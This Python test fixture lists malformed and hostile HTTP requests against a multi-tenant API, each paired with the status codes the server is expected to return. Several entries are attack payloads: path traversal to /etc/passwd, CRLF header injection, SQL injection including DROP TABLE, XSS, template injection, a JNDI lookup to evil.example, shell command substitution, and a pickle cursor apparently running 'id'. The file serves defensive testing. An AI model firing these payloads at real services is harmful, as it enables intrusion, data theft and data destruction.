"""Inputs whose path or query is wrong, odd, or an attack."""

from tests.server.hostile_requests import (
    AUTH,
    BATCH,
    DELIVERIES,
    DESTINATIONS,
    FLOWS,
    HOST,
    INGESTERS,
    LOGS,
    ONE,
    RECIPE,
    RETRY,
    V1,
    Hostile,
    get,
    head,
    raw,
)

# Decisions §3: a path id off the pattern is a 400 or a 404, both conform.
_NO_ID = (400, 404)


def _path(name: str, path: bytes, *statuses: int) -> Hostile:
    return raw(f"path: {name}", get(path), *(statuses or (404,)))


def _id(name: str, text: bytes, *statuses: int) -> Hostile:
    return raw(f"id: {name}", get(DESTINATIONS + b"/" + text), *(statuses or _NO_ID))


def _query(name: str, query: bytes, *statuses: int, of: bytes = DESTINATIONS) -> Hostile:
    return raw(f"query: {name}", get(of + b"?" + query), *(statuses or (400,)))


def _limit(text: bytes, *statuses: int) -> Hostile:
    shown = text.decode("latin-1") if len(text) < 40 else f"{len(text)} characters"
    return _query(f"limit={shown}", b"limit=" + text, *statuses)


PATHS = [
    _path("nothing there", b"/nowhere"),
    _path("a trailing slash", DESTINATIONS + b"/"),
    _path("a trailing slash behind an id", ONE + b"/"),
    _path("two slashes in front", b"/" + DESTINATIONS),
    _path("two slashes inside", DESTINATIONS.replace(b"/destinations", b"//destinations")),
    _path("two slashes before an id", DESTINATIONS + b"//dest_hostile"),
    _path("only slashes", b"/" * 1000),
    _path("an encoded slash for a slash", V1 + b"%2fdestinations"),
    _path("one dot", V1 + b"/./destinations", 200, 404),
    _path("two dots", V1 + b"/nowhere/../destinations", 200, 404),
    _path("two dots to a stranger", V1 + b"/../tnt_stranger/destinations", 403, 404),
    _path("encoded dots", V1 + b"/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    _path("dots out of the root", b"/../../../../etc/passwd"),
    _path("dots out of the static files", b"/static/../../../etc/passwd"),
    _path("encoded dots out of the static files", b"/static/..%2f..%2f..%2fetc%2fpasswd"),
    _path("backslashes out of the static files", b"/static/..%5c..%5capp.py"),
    _path("a NUL among the static files", b"/static/%00", *_NO_ID),
    _path("bad UTF-8 among the static files", b"/static/%ff%fe", *_NO_ID),
    _path("a very long static file", b"/static/" + b"a" * 5000, 404, 414),
    _path("the folder of the static files", b"/static/"),
    _path("a NUL in a word of the path", b"/v1/ten%00ants/tnt_hostile/destinations"),
    _path("a line feed behind a word of the path", DESTINATIONS + b"%0a"),
    _path("a word of the path in capitals", DESTINATIONS.upper()),
    _path("a word of the path, percent-encoded", b"/v1/%74enants/tnt_hostile/destinations", 200),
    _path("a parameter on a word of the path", DESTINATIONS + b";jsessionid=1"),
    _path("a file extension", DESTINATIONS + b".json"),
    _path("a template's own braces", b"/v1/tenants/{tenant_id}/destinations", 403),
    _path("a stranger's tenant", b"/v1/tenants/tnt_stranger/destinations", 403),
    _path("a tenant with a line feed", b"/v1/tenants/tnt_hostile%0a/destinations", 403),
    _path("a tenant with a NUL", b"/v1/tenants/tnt_hostile%00/destinations", 403),
    _path("a tenant in bad UTF-8", b"/v1/tenants/%ff/destinations", 403),
    _path("no tenant", b"/v1/tenants//destinations"),
    _path("a tenant of 10,000 characters", b"/v1/tenants/" + b"t" * 10_000 + b"/destinations", 403),
    _path(
        "a cluster with a line feed",
        RECIPE.replace(b"plane_hostile", b"plane_hostile%0a"),
        400,
        404,
    ),
    _path("100 KB", b"/" + b"a" * 100_000, 414),
    _path("5,000 words", b"/a" * 5000, 404),
    _path("bytes beyond ASCII", V1 + "/destinations/dést".encode(), 400, 404),
    _path("bytes that are not UTF-8", V1 + b"/destinations/\xff\xfe", 400, 404),
    _path("a bare NUL", V1 + b"/destinations/a\x00b", 400),
    _path("a bare escape", V1 + b"/destinations/a\x1bb", 400, 404),
    _path("a bare delete", V1 + b"/destinations/a\x7fb", 400, 404),
    _path("an event's retry by GET", RETRY, 405),
    raw("path: a batch by PUT", get(BATCH, method=b"PUT"), 405),
    raw("path: a PATCH of a list", get(FLOWS, method=b"PATCH"), 405),
    raw("path: a DELETE of a list", get(INGESTERS, method=b"DELETE"), 405),
    raw("path: a DELETE of the log", get(LOGS, method=b"DELETE"), 405),
    raw("path: a POST to the front page", get(b"/", method=b"POST"), 405),
    raw("path: a PUT to nowhere without a token", head(b"PUT /x HTTP/1.1", HOST), 404),
]

IDS = [
    _id("a line feed at the end", b"dest_hostile%0A"),
    _id("a line feed in front", b"%0Adest_hostile"),
    _id("a carriage return and line feed", b"dest_hostile%0d%0aX-Evil:%201"),
    _id("a NUL at the end", b"dest_hostile%00"),
    _id("a NUL inside", b"dest%00hostile"),
    _id("only a NUL", b"%00"),
    _id("a space at the end", b"dest_hostile%20"),
    _id("a plus for a space", b"dest_hostile+"),
    _id("a tab", b"dest_hostile%09"),
    _id("an encoded slash", b"dest%2Fhostile"),
    _id("an encoded slash at the end", b"dest_hostile%2f"),
    _id("an encoded backslash", b"dest_hostile%5c"),
    _id("an encoded question mark", b"dest_hostile%3Flimit=1"),
    _id("an encoded hash", b"dest_hostile%23"),
    _id("a bare hash", b"dest_hostile#part", 200, 400, 404),
    _id("percent-encoded letters", b"%64est%5Fhostile", 200),
    _id("letters percent-encoded twice", b"%2564est_hostile"),
    _id("a percent sign without digits", b"dest%"),
    _id("a percent sign with one digit", b"dest%2"),
    _id("a percent sign with letters", b"dest%zz"),
    _id("a %u escape", b"dest%u0041"),
    _id("an overlong slash", b"dest%c0%af"),
    _id("a lone continuation byte", b"dest%80"),
    _id("a cut-off character", b"dest%e2%82"),
    _id("an encoded lone surrogate", b"dest%ed%a0%80"),
    _id("a character beyond Unicode", b"dest%f4%90%80%80"),
    _id("a byte order mark", b"%ef%bb%bfdest_hostile"),
    _id("a full-width letter", "ｄest_hostile".encode().replace("ｄ".encode(), b"%ef%bd%84")),
    _id("a combining accent", b"dest_hostile%cc%81"),
    _id("a right-to-left override", b"dest_hostile%e2%80%ae"),
    _id("an encoded dot", b"%2e"),
    _id("two encoded dots", b"%2e%2e"),
    _id("SQL that is always true", b"'%20OR%20'1'='1"),
    _id("SQL that drops a table", b"x';DROP%20TABLE%20destinations;--"),
    _id("a LIKE pattern", b"dest%25"),
    _id("HTML", b"%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    _id("a template expression", b"%7B%7B7*7%7D%7D"),
    _id("a format string", b"%25s%25n%7B0.__class__%7D"),
    _id("a lookup expression", b"$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D"),
    _id("a shell command", b"%60id%60;$(id)"),
    _id("65 characters", b"d" * 65),
    _id("10,000 characters", b"d" * 10_000),
    _id("3,000 encoded NULs", b"%00" * 3000),
    _id("a stranger's id", b"dest_stranger", 404),
    raw("id: DELETE with a line feed", get(ONE + b"%0a", method=b"DELETE"), *_NO_ID),
    raw("id: DELETE with a NUL", get(ONE + b"%00", method=b"DELETE"), *_NO_ID),
    raw("id: DELETE of two dots", get(ONE + b"/..", method=b"DELETE"), 404, 405),
    raw("id: DELETE of SQL", get(DESTINATIONS + b"/x'%20OR%201=1--", method=b"DELETE"), *_NO_ID),
    raw("id: DELETE of a stranger's", get(DESTINATIONS + b"/dest_stranger", method=b"DELETE"), 404),
]

LIMITS = [
    *(_limit(text) for text in (b"", b"0", b"-1", b"101", b"1_0", b"1e1", b"0x10", b"0b1", b"1.5")),
    *(
        _limit(text)
        for text in (b"%205", b"5%20", b"+5", b"%2B5", b"5%00", b"%005", b"5%0a", b"5,6")
    ),
    *(_limit(text) for text in (b"five", b"NaN", b"Infinity", b"null", b"true", b"[5]", b"'5'")),
    *(_limit(text) for text in (b"9223372036854775808", b"18446744073709551617", b"-" + b"9" * 40)),
    *(_limit(text) for text in (b"%EF%BC%95", b"%D9%A5", b"%C2%B2", b"%E2%81%B5", b"%E0%A5%AB")),
    *(
        _limit(text)
        for text in (b"%FF", b"%ED%A0%80", b"5;limit=6", b"5%26limit=6", b"5--", b"5=5")
    ),
    _limit(b"9" * 5000),
    _limit(b"0" * 5000 + b"5", 200, 400),
    _limit(b"05", 200, 400),
    _limit(b"-0"),
    _limit(b"5.0", 200, 400),
    _query("limit without a value", b"limit"),
    _query("limit twice", b"limit=5&limit=5"),
    _query("limit twice, differing", b"limit=5&limit=6"),
    _query("limit twice, once encoded", b"limit=5&%6Cimit=5"),
    _query("limit twice, once empty", b"limit=5&limit="),
    _query("limit 2,000 times", b"&".join([b"limit=5"] * 2000)),
    _query("limit in capitals", b"LIMIT=1000", 200),
    _query("limit as a list", b"limit[]=1000", 200),
]

QUERIES = [
    _query("an empty one", b"", 200),
    _query("only separators", b"&&&&=&=&", 200),
    _query("only question marks", b"?????", 200),
    _query("3,000 unknown parameters", b"a=1&" * 3000, 200),
    _query("100 KB", b"a=" + b"1" * 100_000, 414),
    _query("10,000 brackets in a name", b"a" + b"[" * 10_000 + b"=1", 200, 400, 414),
    _query("100,000 brackets in a name", b"a" + b"[b]" * 33_334 + b"=1", 400, 414),
    _query("bad UTF-8 in an unknown name", b"%ff%fe=1", 200),
    _query("bad UTF-8 in an unknown value", b"a=%c3%28", 200),
    _query("a NUL in an unknown name", b"a%00b=1", 200),
    _query("a broken escape in an unknown value", b"a=%zz&b=%", 200),
    _query("a bare byte beyond ASCII", b"a=\xff", 200, 400),
    _query("a bare NUL", b"a=\x00", 400),
    _query("another method by parameter", b"_method=DELETE", 200),
    _query("an access token by parameter", b"access_token=zpk_hostile", 200),
    raw(
        "query: a token nowhere else",
        head(b"GET " + ONE + b"?access_token=zpk_hostile HTTP/1.1", HOST),
        401,
    ),
    _query("an empty cursor", b"cursor="),
    _query("a cursor twice", b"cursor=a&cursor=b"),
    _query("a cursor of SQL", b"cursor=1%20OR%201=1"),
    _query("a cursor with a NUL", b"cursor=%00"),
    _query("a cursor beyond ASCII", b"cursor=%E2%98%83"),
    _query("a cursor that is a lone surrogate", b"cursor=%ED%B0%80"),
    _query("a cursor of 32 letters", b"cursor=" + b"A" * 32),
    _query("a cursor of 33 letters", b"cursor=" + b"A" * 33),
    _query("a cursor of 32 full-width letters", b"cursor=" + b"%EF%BC%A1" * 32),
    _query("a cursor with a line feed", b"cursor=" + b"A" * 32 + b"%0a"),
    _query("a cursor of 10,000 letters", b"cursor=" + b"A" * 10_000),
    _query(
        "a cursor that is a pickle",
        b"cursor=gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    ),
    _query("an unknown status", b"status=lost", of=DELIVERIES),
    _query("a status of HTML", b"status=%3Cimg%20src=x%20onerror=alert(1)%3E", of=DELIVERIES),
    _query("a status with a line feed", b"status=failed%0a", of=DELIVERIES),
    _query("a status with a NUL", b"status=failed%00", of=DELIVERIES),
    _query("a status in capitals", b"status=FAILED", of=DELIVERIES),
    _query("a status twice", b"status=failed&status=delivered", of=DELIVERIES),
    _query("a status of 10,000 letters", b"status=" + b"f" * 10_000, of=DELIVERIES),
    _query("an empty event", b"event_id=", of=DELIVERIES),
    _query("an event of SQL", b"event_id='%20OR%20''='", 400, 404, of=DELIVERIES),
    _query("an event with a line feed", b"event_id=evt_hostile%0a", 400, 404, of=DELIVERIES),
    _query("an empty target", b"destination_id=", of=DELIVERIES),
    _query("a target with a NUL", b"destination_id=dest_hostile%00", 200, 400, of=DELIVERIES),
    _query("an unknown level", b"level=debug'--", of=LOGS),
    _query("a moment that is a word", b"since=yesterday", of=LOGS),
    _query("a moment without Z", b"since=2026-01-01T00:00:00", of=LOGS),
    _query("a moment with a line feed", b"since=2026-01-01T00:00:00Z%0a", of=LOGS),
    _query(
        "a moment in full-width digits", "since=２０２６-01-01T00:00:00Z".encode(), 400, of=LOGS
    ),
    _query("a day that does not exist", b"since=2026-02-30T00:00:00Z", of=LOGS),
    _query("a second that does not exist", b"until=2026-01-01T23:59:60Z", of=LOGS),
    _query("the year 0", b"since=0000-01-01T00:00:00Z", 200, 400, of=LOGS),
    _query("the end of time", b"since=9999-12-31T23:59:59.999999999Z", 200, 400, of=LOGS),
    _query(
        "a fraction of 5,000 digits", b"until=2026-01-01T00:00:00." + b"9" * 5000 + b"Z", of=LOGS
    ),
    _query("a moment twice", b"since=2026-01-01T00:00:00Z&since=2026-01-01T00:00:00Z", of=LOGS),
    _query("an empty moment", b"until=", of=LOGS),
    _query("a limit in the recipe", b"limit=1_0", of=RECIPE),
    _query("a cursor in the recipe", b"cursor=%27", of=RECIPE),
    raw("query: two Authorizations' worth", get(ONE + b"?a=1", AUTH), 400, 401),
]

TARGETS = [*PATHS, *IDS, *LIMITS, *QUERIES]
